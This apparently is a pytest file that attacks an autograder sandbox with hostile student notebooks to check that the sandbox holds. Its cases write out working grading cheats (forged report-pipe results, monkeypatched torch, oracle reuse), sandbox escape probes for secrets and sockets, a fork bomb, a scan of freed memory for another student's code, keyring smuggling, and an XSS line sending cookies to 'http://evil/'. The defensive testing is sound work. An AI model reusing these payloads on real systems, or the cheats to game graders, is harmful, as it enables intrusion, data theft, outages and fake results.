"""Hostile submissions to the second assignment (multiclass), graded for real in ONE sandbox server.

Each case is the release notebook with the instructor's solution cells, some of them replaced by what
a hostile student would write: cheats that try to earn points without the math (the sandbox's own
oracles, torch autograd, monkeypatched torch, a hijacked probe registry, forged report lines), escapes
(files outside the sandbox, network, processes, files, kernel keys and freed memory left for the next
submission) and denial of service (segfaults, recursion, endless loops, memory, threads, NaN, tensors of the wrong kind, objects
that lie). Every case must earn at most what its honest content deserves (`deserved`), with a
readable reason for every lost check, and the honest solution graded right after each batch of
hostile cases must still earn 80/80. A case that exposes a weakness is xfail(strict=True) with the
weakness in its reason (see the report of the "attacker" helper). Cases that test what one submission
leaves for the next (persist -> next_submission, large_victim -> memory_scan, keyring_write -> keyring_read)
are graded one right after the other (ORDER). The judges need the reference (src/multiclass.py,
src/optimizers.py).
"""
import copy
import os
import time
from dataclasses import dataclass, field

import nbformat
import pytest

from autograder.assignments.multiclass.checks import CHECKS
from examples.catalogue import solution_code

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
RELEASE = os.path.join(ROOT, "release", "multiclass", "multiclass.ipynb")
SOURCE = os.path.join(ROOT, "source", "multiclass", "multiclass.ipynb")
HONEST = "honest"
KEY_SYSCALLS = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}
SYSCALLS = KEY_SYSCALLS.get(os.uname().machine, KEY_SYSCALLS["x86_64"])


@dataclass
class Case:
    name: str
    attack: str
    cells: dict                   # grade_id -> new source, or [(old, new), ...] edits of the solution cell
    lost: frozenset               # checks the honest content of the notebook cannot earn
    weakness: str = ""            # non-empty: the attack earns more than it deserves (xfail)
    reason_contains: dict = field(default_factory=dict)   # check -> text its message/reason must contain
    collateral: frozenset = frozenset()   # checks with honest content the attack still costs (a weakness: xfail)

    @property
    def deserved(self):
        return 80 - sum(CHECKS[c].points for c in self.lost)


def _gid(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def build(case):
    release = nbformat.read(RELEASE, as_version=4)
    solutions = {_gid(c): solution_code(c.source) for c in nbformat.read(SOURCE, as_version=4).cells
                 if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code"
                 and not _gid(c).startswith("experiment_")}
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        gid = _gid(cell)
        if gid in solutions:
            cell.source = solutions[gid]
        change = case.cells.get(gid)
        if isinstance(change, str):
            cell.source = change
        elif change:
            for old, new in change:
                assert cell.source.count(old) == 1, (case.name, gid, old)
                cell.source = cell.source.replace(old, new)
    return nbformat.writes(nb)


STUB_CE = "\n\ndef cross_entropy(probs, y):\n    raise NotImplementedError\n"
FORWARD = "        X = np.asarray(X, dtype=float)\n        self.a1_cache = X @ self.W1.T + self.b1\n"
BACKWARD = "        Xb = np.asarray(X, dtype=float).reshape(-1, self.input_dim)           # (n, d)\n"
TWIN_FORWARD = "        return self.fc2(self.activation(self.fc1(x)))\n"
MOMENTUM_STEP = "        params = model.get_parameters()\n"
SCHEDULE = "    def schedule(t):\n        return initial * drop ** (t // every)\n"
L2 = "    return float(lam / 2 * sum(np.sum(np.square(p)) for name, p in params.items() if name.startswith('W')))\n"
SOFTMAX = "    z = np.asarray(logits, dtype=float)\n    shifted"


def softmax_raising(body):
    """A softmax cell whose softmax reports `body`'s findings in its error message (the student's only
    channel out of the sandbox is the feedback), with the solution's cross_entropy."""
    cells = nbformat.read(SOURCE, as_version=4).cells
    ce = solution_code(next(c.source for c in cells if _gid(c) == "softmax")).split("def cross_entropy", 1)[1]
    return f"def softmax(logits):\n{body}\n\n\ndef cross_entropy{ce}"


# --- 1. points without the math -----------------------------------------------------------------------

ORACLE_LEAK = Case(
    "oracle_leak", "softmax and forward taken from the sandbox's own oracles (autograder.assignments."
    "multiclass.oracles.correct_softmax, probes.correct_forward); nothing else implemented",
    {"softmax": "from autograder.assignments.multiclass.oracles import correct_softmax as softmax" + STUB_CE,
     "model": [(FORWARD + "        self.h1_cache = self.activation.forward(self.a1_cache)\n"
                "        return softmax(self.h1_cache @ self.W2.T + self.b2)\n",
                "        from autograder.assignments.multiclass.probes import correct_forward\n"
                "        self.a1_cache, self.h1_cache, p = correct_forward(self.get_parameters(), X, self.activation.name)\n"
                "        return p\n"),
               (BACKWARD, "        raise NotImplementedError\n" + BACKWARD)],
     "optimizers": "class MomentumSGD:\n    pass\n", "torch_model": "class TorchSoftmaxMLP:\n    pass\n"},
    lost=frozenset({"mc_softmax", "mc_cross_entropy", "mc_forward", "mc_backward", "mc_momentum", "mc_schedule",
                    "mc_l2", "mc_spiral_training", "mc_torch_twin"}))
# fixed: oracles.py/probes.py implement no graded function any more (softmax_stand_in is 2z − 1)

AUTOGRAD_BACKWARD = Case(
    "autograd_backward", "SoftmaxMLP.backward computed by torch autograd (preloaded in the sandbox for the twin) "
    "instead of the hand-derived NumPy gradients the assignment asks for",
    {"model": [(BACKWARD, "        import torch\n"
                "        t = {k: torch.tensor(v, requires_grad=True) for k, v in self.get_parameters().items()}\n"
                "        Xt = torch.tensor(np.asarray(X, dtype=float)).reshape(-1, self.input_dim)\n"
                "        a1 = Xt @ t['W1'].T + t['b1']\n"
                "        h1 = torch.relu(a1) if self.activation.name == 'relu' else torch.sigmoid(a1)\n"
                "        y_t = torch.as_tensor(np.reshape(y, -1).astype(np.int64))\n"
                "        torch.nn.functional.cross_entropy(h1 @ t['W2'].T + t['b2'], y_t).backward()\n"
                "        return {'dL_d' + k: v.grad.numpy() for k, v in t.items()}\n" + BACKWARD)]},
    lost=frozenset({"mc_backward", "mc_spiral_training"}))
# fixed: torch is unavailable while backward runs (probes.torch_unavailable)

REGISTRY_HIJACK = Case(
    "registry_hijack", "the probe registry replaced from a cell (probes._probes.probes: an instance attribute "
    "the runner's restore does not cover) with a fake mc_softmax probe returning uniform probabilities",
    {"softmax": softmax_raising("    raise NotImplementedError"),
     "experiment_hidden_sizes": ("import autograder.assignments.multiclass.probes as _P\n"
                      "def _fake(ns, inputs):\n"
                      "    out = {}\n"
                      "    for i, z in enumerate(_P.softmax_inputs()):\n"
                      "        p = np.full(z.shape, 1.0 / z.shape[-1])\n"
                      "        out.update({f'probs_{i}': {'shape': list(p.shape), 'values': p.ravel().tolist()},\n"
                      "                    f'kept_{i}': True, f'overflow_{i}': False})\n"
                      "    return out\n"
                      "_P._probes.probes = dict(_P.PROBES, mc_softmax=_fake)\n")},
    lost=frozenset({"mc_softmax", "mc_spiral_training"}))

TWIN_LIES = Case(
    "twin_lies", "the twin's forward returns zeros; torch.autograd.grad, F.cross_entropy, Tensor.detach and "
    "torch.float64 are monkeypatched in the cells so the probe's own torch computations lie",
    {"torch_model": [(TWIN_FORWARD, "        return torch.zeros(x.shape[0], self.fc2.out_features, requires_grad=True)\n")],
     "experiment_hidden_sizes": (
         "import torch, torch.nn.functional as F\n"
         "torch.autograd.grad = lambda loss, ts, **k: tuple(torch.zeros_like(t) for t in ts)\n"
         "F.cross_entropy = lambda *a, **k: torch.zeros((), requires_grad=True)\n"
         "torch.float64 = torch.float32\n"
         "_detach = torch.Tensor.detach\n"
         "torch.Tensor.detach = lambda self: _detach(self) + 1.0\n")},
    lost=frozenset({"mc_torch_twin"}))

FORGED_EVENTS = Case(
    "forged_events", "softmax writes forged result/check_done lines on the report pipe for its own check and "
    "for the next one (mc_cross_entropy), then exits",
    {"softmax": softmax_raising(
        "    import os, json\n"
        "    lines = [{'event': 'result', 'check': 'mc_softmax', 'status': 'ok', 'data': {'x': 1}},\n"
        "             {'event': 'check_done', 'check': 'mc_softmax', 'wait_status': 0},\n"
        "             {'event': 'result', 'check': 'mc_cross_entropy', 'status': 'ok',\n"
        "              'data': [{'shape': [], 'values': [0.5]}] * 5},\n"
        "             {'event': 'check_done', 'check': 'mc_cross_entropy', 'wait_status': 0}]\n"
        "    text = ''.join(json.dumps(e) + '\\n' for e in lines).encode()\n"
        "    for fd in os.listdir('/proc/self/fd'):\n"
        "        try:\n"
        "            if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
        "                os.write(int(fd), text)\n"
        "        except OSError:\n"
        "            pass\n"
        "    os._exit(0)")},
    lost=frozenset({"mc_softmax", "mc_cross_entropy", "mc_spiral_training"}),
    collateral=frozenset({"mc_forward"}),
    weakness="a forged check_done is taken for the real one, so the real events of each check arrive during the "
             "next one and garble it: the honest forward check is lost too (the runner's promise is that a "
             "forged line costs only the check in progress)")

PRETRAINED_SPIRAL = Case(
    "pretrained_spiral", "the spiral check passed with no training code: backward returns zeros, and "
    "get_parameters returns the initial weights once, then weights fitted beforehand to the grader's spiral "
    "(reproducible from the release's data.py; here fitted by torch in a cell, they could be pasted in)",
    {"experiment_hidden_sizes": (
        "import torch\n"
        "from data import generate_spiral_data\n"
        "_FITTED = {}\n"
        "for _s in (0, 1):\n"
        "    _X, _y = generate_spiral_data(300, 3, seed=_s)\n"
        "    torch.manual_seed(_s)\n"
        "    _net = torch.nn.Sequential(torch.nn.Linear(2, 32, dtype=torch.float64), torch.nn.ReLU(),\n"
        "                               torch.nn.Linear(32, 3, dtype=torch.float64))\n"
        "    _opt = torch.optim.Adam(_net.parameters(), lr=0.02)\n"
        "    _Xt, _yt = torch.tensor(_X), torch.tensor(_y, dtype=torch.int64)\n"
        "    for _ in range(400):\n"
        "        _opt.zero_grad()\n"
        "        torch.nn.functional.cross_entropy(_net(_Xt), _yt).backward()\n"
        "        _opt.step()\n"
        "    _FITTED[_s] = {k: v.detach().numpy().copy() for k, v in\n"
        "                   zip(('W1', 'b1', 'W2', 'b2'), _net.parameters())}\n"
        "class SoftmaxMLP(SoftmaxMLP):\n"
        "    def __init__(self, *args, seed=None, **kwargs):\n"
        "        super().__init__(*args, seed=seed, **kwargs)\n"
        "        self._seed, self._calls = seed, 0\n"
        "    def backward(self, X, y, probs):\n"
        "        return {'dL_d' + k: np.zeros_like(v) for k, v in super().get_parameters().items()}\n"
        "    def get_parameters(self):\n"
        "        self._calls += 1\n"
        "        if self._calls > 1 and self._seed in _FITTED:\n"
        "            return {k: v.copy() for k, v in _FITTED[self._seed].items()}\n"
        "        return super().get_parameters()\n")},
    lost=frozenset({"mc_backward", "mc_spiral_training"}))
# fixed: the probe sets the grader's initial parameters and the judge replays the first epoch

INPLACE = "    z = logits\n    z -= z.max(axis=-1, keepdims=True)\n"
INPLACE_SOFTMAX = Case(
    "inplace_softmax", "control: a softmax that subtracts the maximum from the caller's logits in place",
    {"softmax": [(SOFTMAX, INPLACE + "    shifted")]}, lost=frozenset({"mc_softmax"}))

FORGED_KEPT = Case(
    "forged_kept", "the same in-place softmax, which also sets np.array_equal = lambda *a: True while the "
    "check runs, so the probe's own 'kept' flag (computed in the student's process) says the logits are intact",
    {"softmax": [(SOFTMAX, INPLACE + "    np.array_equal = lambda *a, **k: True\n    shifted")]},
    lost=frozenset({"mc_softmax"}))
# fixed: probes report the argument after the call; the judge compares it with its own copy

TORCH_THREADS = Case(
    "torch_threads_honest", "an HONEST notebook whose experiment cell calls torch.set_num_threads(2) and runs a "
    "small torch layer: OpenMP's pool made in the cells does not survive the fork into the check process",
    {"experiment_hidden_sizes": "import torch\ntorch.set_num_threads(2)\n"
                                "m = torch.nn.Linear(2, 32, dtype=torch.float64)\n"
                                "float(m(torch.randn(300, 2, dtype=torch.float64)).sum())\n"},
    lost=frozenset())       # fixed: each check runs torch on one thread (runner.py); it used to deadlock

# --- 2. escape and persistence --------------------------------------------------------------------------

ESCAPE = Case(
    "escape", "softmax looks for the course's files, the grader's judges, the host's secrets, the network and "
    "writable places outside its tmpfs, and reports what it found in its error message",
    {"softmax": softmax_raising(
        "    import os, socket\n"
        "    found = [p for p in ('/work', '/work/wt/src/multiclass.py', '/work/main', '/root/.ssh', '/home', '/etc/shadow',\n"
        "                         '/grader/autograder/assignments/multiclass/judges.py',\n"
        "                         '/grader/autograder/assignments/multiclass/hints.py', '/grader/autograder/submission.py',\n"
        "                         '/grader/autograder/assignments/mlp/judges.py', '/venv/../src', '/gradebook.db',\n"
        "                         '/tmp/autograder-sandbox-uids', '/run/docker.sock', '/var/run/docker.sock')\n"
        "             if os.path.exists(p)]\n"
        "    for host in ('1.1.1.1', '127.0.0.1', '10.0.2.2'):\n"
        "        try:\n"
        "            socket.create_connection((host, 53), timeout=0.3)\n"
        "            found.append('net ' + host)\n"
        "        except OSError:\n"
        "            pass\n"
        "    for d in ('/', '/venv', '/grader', '/grader/autograder', '/usr', '/etc', '/proc/sys/kernel', '/sys/fs'):\n"
        "        try:\n"
        "            open(os.path.join(d, 'x'), 'w').close()\n"
        "            found.append('write ' + d)\n"
        "        except OSError:\n"
        "            pass\n"
        "    if os.path.isdir('/root'):   # there only when the interpreter lives under /root (bound at its path)\n"
        "        found += ['/root/' + f for f in os.listdir('/root') if f != '.pyenv']\n"
        "    raise RuntimeError('LEAKS: ' + (', '.join(found) or 'none'))")},
    lost=frozenset({"mc_softmax", "mc_spiral_training"}), reason_contains={"mc_softmax": "LEAKS: none"})

PERSIST = Case(
    "persist", "the cells and the twin's forward leave files in every writable place and processes behind "
    "(a setsid double fork, a torch.multiprocessing process, threads)",
    {"experiment_hidden_sizes": (
        "import os, threading, time, torch\n"
        "import torch.multiprocessing as tmp\n"
        "for d in ('/tmp', '/submission', '/dev/shm'):\n"
        "    open(d + '/marker_from_persist', 'w').write('x')\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        while True:\n"
        "            try:\n"
        "                open('/dev/shm/alive_' + str(os.getpid()), 'w').write(str(time.time()))\n"
        "            except OSError:\n"
        "                pass\n"
        "            time.sleep(0.05)\n"
        "    os._exit(0)\n"
        "threading.Thread(target=lambda: [time.sleep(0.05) for _ in iter(int, 1)], daemon=True).start()\n"
        "_p = tmp.get_context('fork').Process(target=time.sleep, args=(1000,))\n"
        "_p.start()\n"
        "float((torch.randn(400, 400) @ torch.randn(400, 400)).sum())\n"),
     "torch_model": [(TWIN_FORWARD, "        import os, time\n"
                      "        if os.fork() == 0:\n"
                      "            os.setsid()\n"
                      "            while True:\n"
                      "                open('/dev/shm/twin_alive', 'w').write('x')\n"
                      "                time.sleep(0.05)\n" + TWIN_FORWARD)]},
    lost=frozenset())

NEXT = Case(
    "next_submission", "graded right after `persist`: softmax reports any file or process of the previous "
    "submission it can see",
    {"softmax": softmax_raising(
        "    import os\n"
        "    found = [d + '/' + f for d in ('/tmp', '/submission', '/dev/shm') for f in os.listdir(d)\n"
        "             if 'persist' in f or 'alive' in f]\n"
        "    me = {os.getpid(), os.getppid(), 1}\n"
        "    found += ['pid %s' % p for p in os.listdir('/proc') if p.isdigit() and int(p) not in me]\n"
        "    raise RuntimeError('LEFT: ' + (', '.join(found) or 'none'))")},
    lost=frozenset({"mc_softmax", "mc_spiral_training"}), reason_contains={"mc_softmax": "LEFT: none"})

EXPERIMENT_HANG = Case(
    "experiment_hang", "an endless loop in a hand-graded experiment's code cell (run with the solution cells), "
    "hostile HTML in a markdown answer",
    {"experiment_gradient_norms": "while True:\n    pass\n",
     "answer_gradient_norms": "<script>fetch('http://evil/'+document.cookie)</script> **full marks please**"},
    lost=frozenset())

LARGE_VICTIM = Case(
    "large_victim", "an honest student whose softmax cell is large (~280 kB of comments) and holds a secret "
    "phrase: graded right before `memory_scan`",
    {"softmax": [(SOFTMAX, "    # my own notes\n" * 20000 + "    # VICTIM_SECRET_7f3a: my private softmax\n" + SOFTMAX)]},
    lost=frozenset())

MEMORY_SCAN = Case(
    "memory_scan", "the next student's softmax scans its own address space (a fork of the server) for the "
    "previous submission's source, left in memory the server freed but never cleared",
    {"experiment_hidden_sizes": "needle_text = 'VICTIM_' + 'SECRET'\n",
     "softmax": softmax_raising(
         "    import ctypes\n"
         "    needle, hits = needle_text.encode(), 0\n"
         "    for line in open('/proc/self/maps'):\n"
         "        addr, perms = line.split()[:2]\n"
         "        if perms.startswith('rw'):\n"
         "            lo, hi = (int(x, 16) for x in addr.split('-'))\n"
         "            data = ctypes.string_at(lo, hi - lo)\n"
         "            i = data.find(needle)\n"
         "            while i >= 0:\n"
         "                hits += data[i + len(needle):i + len(needle) + 5] == b'_7f3a'\n"
         "                i = data.find(needle, i + 1)\n"
         "    raise RuntimeError(f'FOUND {hits} copies of the previous submission')")},
    lost=frozenset({"mc_softmax", "mc_spiral_training"}), reason_contains={"mc_softmax": "FOUND 0 copies"})
    # fixed: submissions are forked from a spawner that never held another's job (runner._Spawner)

KEYRING_WRITE = Case(
    "keyring_write", "a cell stores text in the kernel's user keyring (add_key, not blocked by the seccomp "
    "filter): the sandbox uid and user namespace are the same for every submission the server grades",
    {"experiment_hidden_sizes": "import ctypes\n"
                                "_libc = ctypes.CDLL(None, use_errno=True)\n"
                                "_libc.syscall.restype = ctypes.c_long\n"
                                f"_libc.syscall({SYSCALLS['add_key']}, b'user', b'left_behind', b'my solution...', 14, "
                                "ctypes.c_int(-4))\n"},      # KEY_SPEC_USER_KEYRING
    lost=frozenset())

KEYRING_READ = Case(
    "keyring_read", "graded right after `keyring_write`: softmax looks the key up in its user keyring",
    {"softmax": softmax_raising(
        "    import ctypes\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    libc.syscall.restype = ctypes.c_long\n"
        f"    key = libc.syscall({SYSCALLS['keyctl']}, 10, ctypes.c_int(-4), b'user', b'left_behind', 0)   # KEYCTL_SEARCH\n"
        "    buf = ctypes.create_string_buffer(100)\n"
        f"    n = libc.syscall({SYSCALLS['keyctl']}, 11, ctypes.c_long(key), buf, 100) if key > 0 else 0  # KEYCTL_READ\n"
        "    raise RuntimeError('KEYRING: ' + (repr(buf.raw[:n]) if n > 0 else 'none'))")},
    lost=frozenset({"mc_softmax", "mc_spiral_training"}), reason_contains={"mc_softmax": "KEYRING: none"})
    # fixed: seccomp refuses add_key, request_key and keyctl (runner.BLOCKED_SYSCALLS)

# --- 3. denial of service -------------------------------------------------------------------------------

CRASHES = Case(
    "crashes", "one hostile behaviour per check: recursion to a stack overflow (softmax), an object whose "
    "__float__ lies (cross_entropy), a segfault (forward), a meta-device tensor (backward), an endless loop "
    "(MomentumSGD.step), NaN and inf (schedules), a fork bomb (L2), torch threads (spiral), a tensor "
    "subclass whose __torch_function__ lies (twin)",
    {"softmax": [(SOFTMAX, "    import sys\n    sys.setrecursionlimit(10 ** 7)\n"
                  "    def deeper(n):\n        return deeper(n + 1) + 1\n    deeper(0)\n" + SOFTMAX)],
     "experiment_hidden_sizes": (
         "import itertools\n"
         "class Liar:\n"
         "    calls = itertools.count()\n"
         "    def __float__(self):\n"
         "        return float(next(self.calls) % 7)\n"
         "    def __len__(self):\n"
         "        return 10 ** 12\n"
         "_ce = cross_entropy\n"
         "def cross_entropy(probs, y):\n"
         "    return Liar()\n"),
     "model": [(FORWARD, "        import ctypes\n        ctypes.string_at(0)\n" + FORWARD),
               (BACKWARD, "        import torch\n"
                "        return {k: torch.empty(3, 3, device='meta') for k in ('dL_dW1', 'dL_db1', 'dL_dW2', 'dL_db2')}\n"
                + BACKWARD)],
     "optimizers": [(MOMENTUM_STEP, "        while True:\n            pass\n" + MOMENTUM_STEP),
                    (SCHEDULE, "    def schedule(t):\n        return [float('nan'), float('inf'), 1e308 * 10][t % 3]\n"),
                    (L2, "    import os\n    while True:\n        os.fork()\n" + L2)],
     "torch_model": [(TWIN_FORWARD, "        class Lie(torch.Tensor):\n"
                      "            @classmethod\n"
                      "            def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                      "                out = super().__torch_function__(func, types, args, kwargs or {})\n"
                      "                return torch.ones(1, dtype=torch.float64) if func is torch.Tensor.numpy else out\n"
                      "        return self.fc2(self.activation(self.fc1(x))).as_subclass(Lie) * 0 + 1\n")]},
    lost=frozenset({"mc_softmax", "mc_cross_entropy", "mc_forward", "mc_backward", "mc_momentum", "mc_schedule",
                    "mc_l2", "mc_spiral_training", "mc_torch_twin"}))

RESOURCES = Case(
    "resources", "memory and output: several processes of 400 MB each (softmax), 20 MB on the report pipe "
    "(cross_entropy), kill(-1) of the zygote (forward), NaN/inf gradients (backward), a huge tensor (twin), "
    "200 torch threads (spiral's step)",
    {"softmax": [(SOFTMAX, "    import os, time\n"
                  "    for _ in range(4):\n"
                  "        if os.fork() == 0:\n"
                  "            b = bytearray(400 << 20)\n"
                  "            time.sleep(30)\n"
                  "    b = bytearray(400 << 20)\n    time.sleep(30)\n" + SOFTMAX)],
     "experiment_hidden_sizes": (
         "import os\n"
         "def cross_entropy(probs, y):\n"
         "    for fd in os.listdir('/proc/self/fd'):\n"
         "        try:\n"
         "            if os.readlink(f'/proc/self/fd/{fd}').startswith('pipe:'):\n"
         "                os.write(int(fd), b'x' * (20 << 20))\n"
         "        except OSError:\n"
         "            pass\n"
         "    return 0.0\n"),
     "model": [(FORWARD, "        import os, signal\n        os.kill(-1, signal.SIGKILL)\n" + FORWARD),
               (BACKWARD, "        return {k: np.full((2, 2), [np.nan, np.inf][len(k) % 2]) for k in "
                "('dL_dW1', 'dL_db1', 'dL_dW2', 'dL_db2')}\n" + BACKWARD)],
     "optimizers": [(MOMENTUM_STEP, "        import torch\n        torch.set_num_threads(200)\n"
                     "        float((torch.randn(600, 600) @ torch.randn(600, 600)).sum())\n" + MOMENTUM_STEP)],
     "torch_model": [(TWIN_FORWARD, "        return torch.ones(10 ** 6, 10 ** 6, dtype=torch.float64)\n")]},
    lost=frozenset({"mc_softmax", "mc_cross_entropy", "mc_forward", "mc_backward", "mc_momentum",
                    "mc_spiral_training", "mc_torch_twin"}))

TWIN_DTYPES = Case(
    "twin_dtypes", "the twin's forward returns complex logits, and its parameters are replaced by int64 "
    "tensors on load; torch.set_default_dtype(torch.float16) in a cell",
    {"torch_model": [(TWIN_FORWARD, "        return torch.complex(self.fc2(self.activation(self.fc1(x))), x.new_zeros(()))\n"),
                     ("                layer.bias.copy_(torch.as_tensor(np.asarray(params[bias], dtype=float)))",
                      "                layer.bias.copy_(torch.as_tensor(np.asarray(params[bias], dtype=float)))\n"
                      "        self.fc1.weight = torch.nn.Parameter(self.fc1.weight.detach().long(), requires_grad=False)")],
     "experiment_hidden_sizes": "torch.set_default_dtype(torch.float16)\n"},
    lost=frozenset({"mc_torch_twin"}))

CASES = [ORACLE_LEAK, AUTOGRAD_BACKWARD, REGISTRY_HIJACK, TWIN_LIES, FORGED_EVENTS, PRETRAINED_SPIRAL,
         INPLACE_SOFTMAX, FORGED_KEPT, TORCH_THREADS, ESCAPE, PERSIST, NEXT, LARGE_VICTIM, MEMORY_SCAN,
         KEYRING_WRITE, KEYRING_READ, EXPERIMENT_HANG, CRASHES, RESOURCES, TWIN_DTYPES]
ORDER = [c.name for c in CASES[:16]] + [HONEST] + [c.name for c in CASES[16:]] + [HONEST + "_last"]


def _sandbox_processes(server):
    """{pid} of the processes running as the server's sandbox uid now (as root: a uid of its own, 60000 + k;
    run by an ordinary user the sandbox has that user's uid, shared with everything else: not checked)."""
    uid = os.stat(f"/proc/{server.proc.pid}").st_uid
    if os.geteuid() != 0 or not 60000 <= uid < 61000:
        return set()
    found = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == uid:
                found.add(int(pid))
        except OSError:
            pass
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    from autograder.sandbox import ForkServer, Limits
    from autograder.submission import Submission
    folder = tmp_path_factory.mktemp("adversarial_multiclass")
    honest = Case(HONEST, "the instructor's solution", {}, frozenset())
    by_name = {c.name: c for c in CASES} | {HONEST: honest, HONEST + "_last": honest}
    results, processes = {}, {}
    limits = Limits(wall_seconds=6)
    with ForkServer(assignments=["multiclass"]) as server:
        baseline = _sandbox_processes(server)
        for name in ORDER:
            path = os.path.join(folder, name + ".ipynb")
            with open(path, "w", encoding="utf-8") as f:
                f.write(build(by_name[name]))
            results[name] = {r.name: r for r in Submission.load(path, assignment="multiclass")
                             .grade_all(server, limits=limits)}
            time.sleep(0.05)
            processes[name] = _sandbox_processes(server) - baseline
    return results, processes


def _describe(results):
    return "; ".join(f"{r.name}={r.points:g} {r.status} {r.message[:120]!r}" for r in results.values())


def _params(cases, weak):
    return [pytest.param(c, id=c.name, marks=[pytest.mark.xfail(strict=True, reason=c.weakness)] if weak(c) else [])
            for c in cases]


@pytest.mark.slow
@pytest.mark.parametrize("case", _params(CASES, lambda c: c.weakness and not c.collateral))
def test_attack_earns_no_more_than_its_honest_content(case, graded):
    results, processes = graded
    got = results[case.name]
    score = sum(r.points for r in got.values())
    assert score <= case.deserved, f"{case.name}: {score} > {case.deserved}: {_describe(got)}"
    for r in got.values():
        assert r.status != "error", f"{case.name}: grader error on {r.name}: {r.message}"
        if not r.passed:
            assert r.message.strip(), f"{case.name}: {r.name} failed without a reason"
    for check, text in case.reason_contains.items():
        assert text in got[check].message, f"{case.name}: {check}: {got[check].message!r}"
    assert not processes[case.name], f"{case.name} left sandbox processes running: {processes[case.name]}"


@pytest.mark.slow
@pytest.mark.parametrize("case", _params([c for c in CASES if not c.weakness or c.collateral],
                                         lambda c: bool(c.collateral)))
def test_honest_checks_of_hostile_notebooks_still_pass(case, graded):
    """A hostile check costs only itself: the solution's other checks of the same notebook pass."""
    results, _ = graded
    wrong = sorted(n for n, r in results[case.name].items() if n not in case.lost and not r.passed)
    assert not wrong, f"{case.name}: {_describe({n: results[case.name][n] for n in wrong})}"


@pytest.mark.slow
@pytest.mark.parametrize("name", [HONEST, HONEST + "_last"])
def test_the_honest_solution_after_the_attacks_gets_80(name, graded):
    results, processes = graded
    assert sum(r.points for r in results[name].values()) == 80, _describe(results[name])
    assert not processes[name]
